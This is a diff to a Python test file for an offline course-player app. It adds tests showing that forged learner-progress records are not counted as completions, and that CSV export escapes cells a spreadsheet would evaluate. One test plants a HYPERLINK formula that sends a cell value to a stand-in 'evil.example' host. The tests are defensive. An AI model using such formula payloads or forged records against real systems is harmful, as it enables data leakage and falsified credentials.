@@ -4,6 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import re
+import uuid
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -12,14 +15,13 @@ import pytest
 from player.cli import main
 from player.core.context import Context, open_context
 from player.core.dashboard import (
+    FORMULA_STARTS,
     DashboardRow,
-    check_trainer_pin,
+    csv_cell,
     dashboard_table,
     iso_seconds,
     learner_summary,
     module_chart,
-    set_trainer_pin,
-    trainer_pin_set,
     write_csv,
 )
 from player.core.errors import LearningError
@@ -29,6 +31,7 @@ from player.core.package.pack import pack
 from player.core.paths import DataDir
 from player.core.sync.merge import CourseIndex
 from player.core.sync.service import activity_bases, manifests_of
+from player.core.sync.statements import VERB_COMPLETED, VERB_PASSED, VERB_SATISFIED
 from player.core.sync.usb import export_progress, import_progress
 from tests.core.learning_fixtures import take_quiz, watch_video
 from tests.helpers.courses import write_source
@@ -186,18 +189,126 @@ def test_learner_summary(workshop) -> None:
         learner_summary(a, "Alice", "nope")
 
 
-def test_trainer_pin(workshop) -> None:
-    a, _b, _file = workshop
-    assert not trainer_pin_set(a) and check_trainer_pin(a, "anything")
-    set_trainer_pin(a, "2468")
-    assert trainer_pin_set(a)
-    assert check_trainer_pin(a, "2468") and not check_trainer_pin(a, "1357")
-    set_trainer_pin(a, None)
-    assert not trainer_pin_set(a)
-
-
 def test_iso_durations() -> None:
     assert iso_seconds("PT1M3.5S") == 63.5
     assert iso_seconds("PT2H") == 7200
     assert iso_seconds("P1DT1S") == 86401
     assert iso_seconds("soon") == 0 and iso_seconds(None) == 0
+
+
+def forged_copy(template: dict, verb: str, object_id: str, **changes: object) -> dict:
+    statement = json.loads(json.dumps(template)) | {"id": str(uuid.uuid4()), "result": {}}
+    statement |= changes
+    statement["verb"] = {"id": verb, "display": {"en-US": verb.rsplit("/", 1)[-1]}}
+    statement["object"] = {"id": object_id, "objectType": "Activity"}
+    statement.setdefault("result", {}).pop("score", None)
+    return statement
+
+
+def chloe_forgery(stick_file: Path, name: str | None = None) -> list[dict]:
+    """Chloé's real statements (a failed quiz), plus claims that she completed everything."""
+    real = [json.loads(line) for line in stick_file.read_text(encoding="utf-8").splitlines()]
+    chloe = [s for s in real if s["actor"].get("mbox") == "mailto:chloe@example.org"]
+    course = next(s["object"]["id"] for s in chloe if s["verb"]["id"].endswith("/initialized"))
+    claims = [
+        forged_copy(chloe[0], VERB_SATISFIED, f"{course}/modules/m1"),
+        forged_copy(chloe[0], VERB_SATISFIED, f"{course}/modules/m2"),
+        forged_copy(chloe[0], VERB_SATISFIED, course),
+        forged_copy(chloe[0], VERB_COMPLETED, f"{course}/lessons/no-such-lesson"),
+        forged_copy(chloe[0], VERB_PASSED, f"{course}/lessons/m1-quiz", result={"success": False}),
+        forged_copy(chloe[0], VERB_COMPLETED, f"{course}/lessons/m1-intro"),
+    ]
+    claims[-1]["context"]["revision"] = "99"  # not the installed version
+    statements = chloe + claims
+    if name is not None:
+        for statement in statements:
+            statement["actor"]["name"] = name
+    return statements
+
+
+def test_a_forged_file_cannot_complete_an_imported_learners_modules(workshop) -> None:
+    a, _b, stick_file = workshop
+    forged = stick_file.with_name("chloe-forged.jsonl")
+    forged.write_text("".join(json.dumps(s) + "\n" for s in chloe_forgery(stick_file)), "utf-8")
+    report = import_file(a, forged)
+    assert report.queued == len(chloe_forgery(stick_file))  # type: ignore[attr-defined]
+    table = by_learner(dashboard_table(a, "test-course"))
+    chloe, chloe2 = table[("Chloé", "m1")], table[("Chloé", "m2")]
+    assert (chloe.state, chloe.lessons_done, chloe.module_completed_at) == ("open", 0, None)
+    assert chloe2.state != "complete" and not chloe.course_complete
+    assert chloe.imported_from == "chloe-forged.jsonl"
+    # the real file's learners still complete by their lessons, and say where they came from
+    import_file(a, stick_file)
+    table = by_learner(dashboard_table(a, "test-course"))
+    assert table[("Bruno", "m2")].state == "complete" and table[("Bruno", "m2")].course_complete
+    assert table[("Bruno", "m1")].imported_from == "laptop-b.jsonl"
+    assert table[("Chloé", "m1")].imported_from == "chloe-forged.jsonl"  # the file read first
+    assert table[("Alice", "m1")].imported_from == ""
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_evaluate_are_escaped(start: str) -> None:
+    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
+    assert (
+        csv_cell(f"a{start}") == f"a{start}" and csv_cell(-1.5) == -1.5 and csv_cell(None) is None
+    )
+
+
+def test_csv_export_of_a_learner_named_like_a_formula(workshop) -> None:
+    a, _b, stick_file = workshop
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Chloé")'
+    forged = stick_file.with_name("formula.jsonl")
+    statements = chloe_forgery(stick_file, name=formula)
+    forged.write_text("".join(json.dumps(s) + "\n" for s in statements), "utf-8")
+    import_file(a, forged)
+    out = io.StringIO()
+    write_csv(dashboard_table(a, "test-course"), out)
+    names = [row["learner_name"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
+    assert "'" + formula in names and formula not in names
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+
+
+def test_every_csv_writer_is_write_csv() -> None:
+    """CSV escaping lives in one function: no other module of the app writes CSV."""
+    root = Path(__file__).resolve().parents[2] / "player"
+    writers = {
+        path.relative_to(root).as_posix()
+        for path in root.rglob("*.py")
+        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
+    }
+    assert writers == {"core/dashboard.py"}
+
+
+def test_import_progress_command_summary_counts_every_line(
+    workshop, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    a, _b, stick_file = workshop
+    statements = chloe_forgery(stick_file)  # Chloé is not known here: queued, not merged
+    alice = {"mbox": "mailto:alice@example.org", "name": "Alice", "objectType": "Agent"}
+    for claim in statements[-6:-2]:  # Alice (known here) did complete m1, and nothing else
+        statements.append(claim | {"id": str(uuid.uuid4()), "actor": alice})
+    lines = [json.dumps(s) for s in statements] + ["not json", json.dumps(statements[0])]
+    forged = stick_file.with_name("mixed.jsonl")
+    forged.write_text("\n".join(lines) + "\n", "utf-8")
+    monkeypatch.setenv("COURSE_PLAYER_HOME", str(a.data.root))
+    assert main(["import-progress", str(forged)]) == 1
+    err = capsys.readouterr().err.splitlines()
+    count = len(statements)
+    assert err[-1] == (
+        f"{forged}: {count + 2} line(s) read: {count} new statement(s) queued for sync"
+        f" (1 merged into local progress, 6 not merged and reported), 1 already here, 1 rejected."
+    )
+    problems = {
+        int(line.split(": line ", 1)[1].split(":")[0]): line.split(": ", 2)[2] for line in err[:-1]
+    }
+    # Chloé's statements the installed course cannot take are reported too; her claims are
+    # left to the dashboard (which derives them from her lessons)
+    assert sorted(problems) == [count - 6, count - 5, count - 4, *range(count - 2, count + 2)]
+    assert "lesson 'no-such-lesson' is not in 'test-course' version 1" in problems[count - 6]
+    assert "with result.success false" in problems[count - 5]
+    assert "version 99 of 'test-course', newer than the installed" in problems[count - 4]
+    assert "module 'm2' is not complete here" in problems[count - 2]
+    assert "course 'test-course' is not complete here" in problems[count - 1]
+    assert "lesson 'no-such-lesson' is not in 'test-course' version 1" in problems[count]
+    assert problems[count + 1].startswith("not JSON")
